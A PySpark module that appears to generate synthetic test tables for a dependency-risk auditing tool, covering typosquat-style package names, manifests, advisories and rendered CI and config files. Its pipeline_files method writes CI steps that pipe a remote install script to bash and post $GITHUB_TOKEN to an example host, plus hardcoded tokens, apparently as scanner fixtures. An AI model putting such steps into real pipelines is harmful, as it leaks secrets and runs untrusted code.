"""Dependency-risk tables derived from the driver's TPC-H-like parquet tables.

Every table here is a Spark plan over the given parquet files, so its size
grows with the scale factor.  The same rules are written as DuckDB SQL in
``fleetaudit.plans.oracle`` (``/`` is written as ``floor``/``//`` there).

Rules (``p`` = ``p_partkey``):

* ``packages``: ecosystem ``[python, npm, ruby, maven][p % 4]``; base name
  ``replace(p_name, ' ', '-')``; the name is the base mutated by
  ``m = (p div 4) % 8``:
  0 ``internal-<p>`` (unique, private), 1 ``-``→``_``, 2 first two characters
  swapped, 3 first character doubled, 4 ``o→0, l→1``, 5 ``+ p % 10``,
  6 ``+ '-lib'`` / drop one / drop two leading characters (``p % 3``), 7 the base itself.
  Maven names are ``org.<brand>:<name>``.
* ``dependencies``: ``lineitem`` joined to ``packages``, one row per
  (order, ecosystem, name); project = ``l_orderkey``.
* ``manifests``: the dependencies of one (project, ecosystem) rendered as
  ``requirements.txt`` / ``package.json`` / ``Gemfile`` / ``pom.xml`` text.
* ``edges``: internal package ``i`` depends on the packages ``2i+1, 2i+2, 3i+1``.
* ``popular``: the distinct base names per ecosystem.
* ``advisories``/``releases``/``licenses``/``registry_names``: per-part rules.
* ``text_files``/``diff_lines``: pipeline, config and source files rendered
  from ``supplier``/``part``/``documents``; history lines from ``documents``.
"""

from __future__ import annotations

from functools import cached_property

from pyspark.sql import Column, DataFrame, SparkSession, Window
from pyspark.sql import functions as F

from fleetaudit.session import dealt

# Ecosystem order used by the derivation rule.
ECOSYSTEMS = ["python", "npm", "ruby", "maven"]
# Npm manifest sections, in the order the npm parser reads them.
NPM_SECTIONS = ["dependencies", "devDependencies", "peerDependencies", "optionalDependencies"]
# Licence strings assigned by p_size % 8 (index 7 = no registry entry).
LICENSE_CYCLE = [
    "MIT",
    "Apache-2.0",
    "BSD-3-Clause",
    "GPL-3.0",
    "LGPL-2.1",
    "Proprietary Commercial",
    "EPL-2.0",
]
# Advisory severities by p_size % 5 (index 4 = missing).
SEVERITY_CYCLE = ["CRITICAL", "HIGH", "MODERATE", "LOW"]

TABLE_NAMES = [
    "region", "nation", "customer", "supplier", "part", "orders", "lineitem", "events",
    "documents", "embeddings", "pages", "benchmark", "labels", "conversations",
]


def _s(c: Column) -> Column:
    return c.cast("string")


def _pick(values: list[str], idx: Column) -> Column:
    """``values[idx]`` for a 0-based integer column (null when out of range)."""
    return F.try_element_at(F.array(*[F.lit(v) for v in values]), (idx + 1).cast("int"))


class TestData:
    """Lazily built derived tables over one scale-factor folder."""

    def __init__(self, spark: SparkSession, sf_dir: str):
        self.spark = spark
        self.sf_dir = sf_dir.rstrip("/")

    # ------------------------------------------------------------ raw tables
    def table(self, name: str, columns: list[str] | None = None) -> DataFrame:
        df = self.spark.read.parquet(f"{self.sf_dir}/{name}.parquet")
        return df.select(*columns) if columns else df

    # ------------------------------------------------------------ packages
    @cached_property
    def packages(self) -> DataFrame:
        """p_partkey, ecosystem, base, name, mutation."""
        p = F.col("p_partkey")
        base = F.regexp_replace(F.lower(F.col("p_name")), " ", "-")
        m = F.floor(p / 4) % 8
        mutated = (
            F.when(m == 0, F.concat(F.lit("internal-"), _s(p)))
            .when(m == 1, F.regexp_replace(base, "-", "_"))
            .when(m == 2, F.concat(F.substring(base, 2, 1), F.substring(base, 1, 1), F.expr("substr(base, 3)")))
            .when(m == 3, F.concat(F.substring(base, 1, 1), base))
            .when(m == 4, F.translate(base, "ol", "01"))
            .when(m == 5, F.concat(base, _s(p % 10)))
            .when(m == 6, F.when(p % 3 == 0, F.concat(base, F.lit("-lib")))
                  .when(p % 3 == 1, F.expr("substr(base, 2)"))
                  .otherwise(F.expr("substr(base, 3)")))
            .otherwise(base)
        )
        eco = _pick(ECOSYSTEMS, p % 4)
        group = F.concat(F.lit("org."), F.regexp_replace(F.lower(F.col("p_brand")), "#", ""))
        part = self.table("part", ["p_partkey", "p_name", "p_brand", "p_size", "p_retailprice"])
        return (
            part.withColumn("base", base)
            .withColumn("mutation", m.cast("int"))
            .withColumn("ecosystem", eco)
            .withColumn("artifact", mutated)
            .withColumn("group_id", group)
            .withColumn(
                "name",
                F.when(F.col("ecosystem") == "maven", F.concat(F.col("group_id"), F.lit(":"), F.col("artifact")))
                .otherwise(F.col("artifact")),
            )
        )

    # ------------------------------------------------------------ dependencies
    @cached_property
    def dependencies(self) -> DataFrame:
        """project_id, path, ecosystem, pos, name, version, dep_type, scope, is_dev, is_optional, source."""
        li = self.table("lineitem", ["l_orderkey", "l_partkey", "l_suppkey", "l_linenumber", "l_quantity"])
        pk = self.packages.select("p_partkey", "ecosystem", "name", "group_id", "artifact")
        # dealt out by project once: the two groupings here and those by project, package later stay in place
        g = (
            dealt(li.join(pk, li.l_partkey == pk.p_partkey), "l_orderkey")
            .groupBy("l_orderkey", "ecosystem", "name")
            .agg(
                F.min("l_linenumber").alias("first_line"),
                F.min("l_partkey").alias("pk"),
                F.min("l_suppkey").alias("supp"),
                F.floor(F.min("l_quantity")).cast("int").alias("qty"),
                F.first("group_id").alias("group_id"),
                F.first("artifact").alias("artifact"),
            )
        )
        section_idx = F.when(F.col("ecosystem") == "npm", (F.col("pk") + F.col("first_line")) % 8).otherwise(0)
        section_idx = F.when(section_idx > 3, 0).otherwise(section_idx)
        core = F.concat_ws(".", _s(F.col("supp") % 4), _s(F.col("first_line") % 3), _s(F.col("qty") % 20))
        eco = F.col("ecosystem")
        latest = F.col("qty") > 45
        version = (
            F.when(eco == "python", F.when(latest, F.lit("latest"))
                   .when(F.col("qty") % 10 == 0, F.concat(core, F.lit("rc1"))).otherwise(core))
            .when(eco == "npm", F.when(F.col("pk") % 2 == 0, F.concat(F.lit("^"), core)).otherwise(core))
            .when(eco == "ruby", F.when(latest, F.lit("latest")).otherwise(F.concat(F.lit("~> "), core)))
            .otherwise(F.when(latest, F.lit("latest")).otherwise(core))
        )
        scope = F.when(eco == "maven", F.when(F.col("pk") % 5 == 0, "test").when(F.col("pk") % 5 == 1, "provided")
                       .otherwise("compile"))
        section = _pick(NPM_SECTIONS, section_idx)
        dep_type = F.when(eco == "npm", section).when(eco.isin("ruby", "maven"), F.lit("dependencies"))
        is_dev = (
            F.when(eco == "npm", section == "devDependencies")
            .when(eco == "maven", scope.isin("test", "provided"))
        )
        is_optional = F.when(eco == "npm", section == "optionalDependencies")
        w = Window.partitionBy("l_orderkey", "ecosystem").orderBy("section_idx", "first_line", "pk")
        return (
            g.withColumn("section_idx", section_idx)
            .withColumn("pos", F.row_number().over(w))
            .select(
                F.col("l_orderkey").alias("project_id"),
                manifest_path(eco).alias("path"),
                "ecosystem",
                "pos",
                "name",
                version.alias("version"),
                dep_type.alias("dep_type"),
                scope.alias("scope"),
                is_dev.alias("is_dev"),
                is_optional.alias("is_optional"),
                F.lit("declared").alias("source"),
                # rendering helpers (dropped by `declared`)
                "pk", "group_id", "artifact", "section_idx",
                core.alias("core"),
            )
        )

    @property
    def declared(self) -> DataFrame:
        """The dependency table in the documented schema."""
        return self.dependencies.select(
            "project_id", "path", "ecosystem", "pos", "name", "version", "dep_type", "scope", "is_dev",
            "is_optional", "source",
        )

    # ------------------------------------------------------------ manifests
    @cached_property
    def manifests(self) -> DataFrame:
        """project_id, path, ecosystem, content — one file per (project, ecosystem)."""
        d = self.dependencies
        eco = F.col("ecosystem")
        pk = F.col("pk")
        is_latest = F.col("version") == "latest"
        py_op = F.when(pk % 4 == 0, ">=").when(pk % 4 == 1, "~=").otherwise("==")
        py_line = F.when(is_latest, F.col("name")).otherwise(F.concat(F.col("name"), py_op, F.col("version")))
        rb_line = F.when(is_latest, F.concat(F.lit('gem "'), F.col("name"), F.lit('"'))).otherwise(
            F.concat(F.lit("gem '"), F.col("name"), F.lit("', '"), F.col("version"), F.lit("'"))
        )
        npm_entry = F.concat(F.lit('"'), F.col("name"), F.lit('": "'), F.col("version"), F.lit('"'))
        use_prop = (pk % 3 == 0) & ~is_latest
        mvn_version = (
            F.when(is_latest, F.lit(""))
            .when(use_prop, F.concat(F.lit("<version>${dep"), _s(F.col("pos")), F.lit(".version}</version>")))
            .otherwise(F.concat(F.lit("<version>"), F.col("version"), F.lit("</version>")))
        )
        mvn_scope = F.when(F.col("scope") == "compile", F.lit("")).otherwise(
            F.concat(F.lit("<scope>"), F.col("scope"), F.lit("</scope>"))
        )
        mvn_dep = F.concat(
            F.lit("    <dependency><groupId>"), F.col("group_id"), F.lit("</groupId><artifactId>"),
            F.col("artifact"), F.lit("</artifactId>"), mvn_version, mvn_scope, F.lit("</dependency>"),
        )
        mvn_prop = F.when(use_prop, F.concat(
            F.lit("    <dep"), _s(F.col("pos")), F.lit(".version>"), F.col("version"),
            F.lit("</dep"), _s(F.col("pos")), F.lit(".version>"),
        ))
        line = (
            F.when(eco == "python", py_line).when(eco == "ruby", rb_line).when(eco == "npm", npm_entry)
            .otherwise(mvn_dep)
        )
        g = d.groupBy("project_id", "path", "ecosystem").agg(
            F.array_sort(F.collect_list(F.struct("pos", line.alias("line"), "section_idx", mvn_prop.alias("prop"))))
            .alias("items")
        )
        items = F.col("items")

        def join_lines(arr: Column, sep: str = "\n") -> Column:
            return F.array_join(F.transform(arr, lambda x: x["line"]), sep)

        pid = _s(F.col("project_id"))
        python_txt = F.concat(F.lit("# requirements of project "), pid, F.lit("\n\n"), join_lines(items), F.lit("\n"))
        ruby_txt = F.concat(F.lit("source 'https://rubygems.org'\n\n"), join_lines(items), F.lit("\n"))
        def section(i: int, sec: str) -> Column:
            rows = F.filter(items, lambda x: x["section_idx"] == i)
            return F.when(
                F.size(rows) > 0,
                F.concat(F.lit(f'  "{sec}": {{\n    '), join_lines(rows, ",\n    "), F.lit("\n  }")),
            )

        sections = [section(i, sec) for i, sec in enumerate(NPM_SECTIONS)]
        npm_txt = F.concat(
            F.lit('{\n  "name": "project-'), pid, F.lit('",\n  "version": "1.0.0",\n'),
            F.concat_ws(",\n", *sections), F.lit("\n}\n"),
        )
        props = F.array_join(F.filter(F.transform(items, lambda x: x["prop"]), lambda x: x.isNotNull()), "\n")
        mvn_txt = F.concat(
            F.lit('<?xml version="1.0" encoding="UTF-8"?>\n<project xmlns="http://maven.apache.org/POM/4.0.0">\n'
                  "  <modelVersion>4.0.0</modelVersion>\n  <artifactId>project-"), pid,
            F.lit("</artifactId>\n  <properties>\n"), props,
            F.lit("\n  </properties>\n  <dependencies>\n"), join_lines(items),
            F.lit("\n  </dependencies>\n</project>\n"),
        )
        content = (
            F.when(eco == "python", python_txt).when(eco == "ruby", ruby_txt).when(eco == "npm", npm_txt)
            .otherwise(mvn_txt)
        )
        return g.select("project_id", "path", "ecosystem", content.alias("content"))

    # ------------------------------------------------------------ graph & lookups
    @cached_property
    def edges(self) -> DataFrame:
        """ecosystem, parent, child — internal package i depends on 2i+1, 2i+2, 3i+1."""
        pk = self.packages
        parents = pk.filter(F.col("mutation") == 0).select(
            F.col("p_partkey").alias("i"), "ecosystem", F.col("name").alias("parent")
        )
        i = F.col("i")
        kids = parents.select("ecosystem", "parent", F.explode(F.array(2 * i + 1, 2 * i + 2, 3 * i + 1)).alias("j"))
        child = pk.select(F.col("p_partkey").alias("j"), F.col("name").alias("child"))
        return kids.join(child, "j").select("ecosystem", "parent", "child").distinct()

    @cached_property
    def cycle_edges(self) -> DataFrame:
        """edges plus back edges child -> parent between internal packages when parent key % 5 = 0."""
        e = self.edges
        back = e.filter(
            F.col("child").startswith("internal-")
            & (F.substring_index(F.col("parent"), "-", -1).cast("bigint") % 5 == 0)
        ).select("ecosystem", F.col("child").alias("parent"), F.col("parent").alias("child"))
        return e.unionByName(back).distinct()

    @cached_property
    def popular(self) -> DataFrame:
        """ecosystem, name — the distinct base names per ecosystem."""
        return self.packages.select("ecosystem", F.col("base").alias("name")).distinct()

    @cached_property
    def advisories(self) -> DataFrame:
        """ecosystem, package, cve, severity, affected_versions, summary, description."""
        p = F.col("p_partkey")
        a = _s(F.col("p_size") % 4)
        b = _s(p % 3)
        rng = (
            F.when(p % 6 == 0, F.concat(F.lit("<"), a, F.lit("."), b))
            .when(p % 6 == 1, F.concat(F.lit(">=0."), b, F.lit(",<"), a, F.lit(".2")))
            .when(p % 6 == 2, F.lit("*"))
            .when(p % 6 == 3, F.concat(F.lit("=="), a, F.lit(".*")))
            .when(p % 6 == 4, F.concat(F.lit("= "), a, F.lit("."), b, F.lit(".0")))
            .otherwise(F.concat(F.lit("<="), a, F.lit(".1.5")))
        )
        return self.packages.filter(p % 7 == 0).select(
            "ecosystem",
            F.col("name").alias("package"),
            F.concat(F.lit("CVE-2024-"), _s(p)).alias("cve"),
            _pick(SEVERITY_CYCLE, F.col("p_size") % 5).alias("severity"),
            rng.alias("affected_versions"),
            F.when(p % 2 == 0, F.concat(F.lit("Issue in "), F.col("name"))).alias("summary"),
            F.concat(F.lit("Advisory for part "), _s(p)).alias("description"),
        )

    @cached_property
    def releases(self) -> DataFrame:
        """ecosystem, package, version — one published release per part."""
        v = F.concat_ws(
            ".", _s(F.col("p_size") % 5), _s(F.col("p_partkey") % 7),
            _s(F.floor("p_retailprice") % 10),
        )
        return self.packages.select("ecosystem", F.col("name").alias("package"), v.alias("version"))

    @cached_property
    def licenses(self) -> DataFrame:
        """ecosystem, package, license — licence of the lowest part key per name (none for p_size % 8 = 7)."""
        lic = _pick(LICENSE_CYCLE, F.col("p_size") % 8)
        return (
            self.packages.groupBy("ecosystem", "name")
            .agg(F.min(F.struct(F.col("p_partkey").alias("k"), lic.alias("l")))["l"].alias("license"))
            .filter(F.col("license").isNotNull())
            .select("ecosystem", F.col("name").alias("package"), "license")
        )

    @cached_property
    def registry_names(self) -> DataFrame:
        """ecosystem, package — publicly registered names (parts with p % 5 != 0)."""
        return (
            self.packages.filter(F.col("p_partkey") % 5 != 0)
            .select("ecosystem", F.col("name").alias("package"))
            .distinct()
        )

    # ------------------------------------------------------------ text files
    @cached_property
    def pipeline_files(self) -> DataFrame:
        """project_id, path, content — one CI file per part (project = part key)."""
        p = F.col("p_partkey")
        brand = F.regexp_replace(F.lower(F.col("p_brand")), "#", "")
        repo = F.concat(brand, F.lit("/"), F.col("base"))
        sha = F.sha1(_s(p))
        ref = (
            F.when(p % 4 == 0, sha).when(p % 4 == 1, F.lit("v4")).when(p % 4 == 2, F.lit("master"))
            .otherwise(F.concat(F.lit("v"), sha))
        )
        path = (
            F.when(p % 5 == 0, F.lit(".github/workflows/ci.yml"))
            .when(p % 5 == 1, F.lit(".gitlab-ci.yml"))
            .when(p % 5 == 2, F.lit(".circleci/config.yml"))
            .when(p % 5 == 3, F.lit("ci/deploy/build.yaml"))
            .otherwise(F.lit("docs/workflows/notes.yml"))
        )
        step = (
            F.when(p % 3 == 0, F.concat(F.lit("      - run: curl -sSL https://get."), F.col("base"),
                                        F.lit(".example.com/install.sh | bash")))
            .when(p % 3 == 1, F.concat(F.lit("      - run: wget -q -O- https://dl.example.com/"), F.col("base"),
                                       F.lit(" --post-data=$GITHUB_TOKEN")))
            .otherwise(F.lit("      - run: make test"))
        )
        token = F.when(p % 2 == 0, F.concat(F.lit('      API_TOKEN: "'), F.substring(sha, 1, 12), F.lit('"')))\
            .otherwise(F.lit("      API_TOKEN: ${{ secrets.API_TOKEN }}"))
        content = F.concat_ws(
            "\n",
            F.lit("name: build"),
            F.lit("on: [push]"),
            F.lit("jobs:"),
            F.lit("  build:"),
            F.lit("    env:"),
            token,
            F.lit("    steps:"),
            F.concat(F.lit("      - uses: "), repo, F.lit("@"), ref),
            step,
            F.lit(""),
        )
        return self.packages.select(p.alias("project_id"), path.alias("path"), content.alias("content"))

    @cached_property
    def installed_files(self) -> DataFrame:
        """project_id, path, content — ``node_modules/<child>/package.json`` for every known child of
        an npm project's declared packages (version from the lowest parent part key; a few broken)."""
        d = self.dependencies.filter(F.col("ecosystem") == "npm").select(
            "project_id", "ecosystem", F.col("name").alias("parent"), "pk")
        kids = d.join(self.edges, ["ecosystem", "parent"]).groupBy("project_id", "child").agg(
            F.min("pk").alias("pk"))
        content = F.when(F.col("pk") % 11 == 0, F.lit("{broken")).otherwise(F.concat(
            F.lit('{"name": "'), F.col("child"), F.lit('", "version": "1.'), _s(F.col("pk") % 10), F.lit('.0"}')))
        return kids.select(
            "project_id",
            F.concat(F.lit("node_modules/"), F.col("child"), F.lit("/package.json")).alias("path"),
            content.alias("content"),
        )

    @cached_property
    def config_files(self) -> DataFrame:
        """project_id, path, content — .npmrc / pip.conf / pip.ini rendered from supplier rows."""
        s = F.col("s_suppkey")
        host = F.concat(F.lit("https://pkgs.supplier"), _s(s), F.lit(".example.com"))
        npmrc = (
            F.when(s % 3 == 0, F.concat(F.lit("@corp"), _s(s), F.lit(":registry="), host, F.lit("/npm/\n"),
                                        F.lit("@team:registry = "), host, F.lit("/team/\nalways-auth=true\n")))
            .when(s % 3 == 1, F.concat(F.lit("registry="), host, F.lit("/npm/\n")))
            .otherwise(F.lit("save-exact=true\n"))
        )
        pipconf = F.concat(
            F.lit("[global]\nindex-url = https://pypi.org/simple\n"),
            F.when(s % 2 == 0, F.concat(F.lit("extra-index-url = "), host, F.lit("/simple\n"))).otherwise(F.lit("")),
            F.when(s % 4 == 0, F.concat(F.lit("# extra-index-url=https://old.example.com/simple\n"))).otherwise(
                F.lit("")),
        )
        sup = self.table("supplier", ["s_suppkey"])
        npm = sup.select(s.alias("project_id"), F.lit(".npmrc").alias("path"), npmrc.alias("content"))
        pip = sup.select(
            s.alias("project_id"),
            F.when(s % 5 == 0, F.lit("pip.ini")).otherwise(F.lit("pip.conf")).alias("path"),
            pipconf.alias("content"),
        )
        return npm.unionByName(pip)

    @cached_property
    def source_files(self) -> DataFrame:
        """project_id, path, content — every document is a source file of project ``doc_id % 100``."""
        d = self.table("documents", ["doc_id", "text", "source"])
        return d.select(
            (F.col("doc_id") % 100).alias("project_id"),
            F.concat(F.col("source"), F.lit("/doc_"), _s(F.col("doc_id")), F.lit(".txt")).alias("path"),
            F.col("text").alias("content"),
        )

    @cached_property
    def diff_lines(self) -> DataFrame:
        """project_id, commit, commit_ts, path, line, text — one commit per document."""
        d = self.table("documents", ["doc_id", "text", "source"])
        lines = d.select(
            (F.col("doc_id") % 10).alias("project_id"),
            F.sha1(_s(F.col("doc_id"))).alias("commit"),
            F.col("doc_id").alias("commit_ts"),
            F.concat(F.col("source"), F.lit("/doc_"), _s(F.col("doc_id")), F.lit(".txt")).alias("path"),
            F.posexplode(F.split(F.col("text"), "\r\n|\r|\n")).alias("pos", "text"),
        )
        return lines.select("project_id", "commit", "commit_ts", "path", (F.col("pos") + 1).alias("line"), "text")


def manifest_path(eco: Column) -> Column:
    return (
        F.when(eco == "python", F.lit("requirements.txt"))
        .when(eco == "npm", F.lit("package.json"))
        .when(eco == "ruby", F.lit("Gemfile"))
        .otherwise(F.lit("pom.xml"))
    )
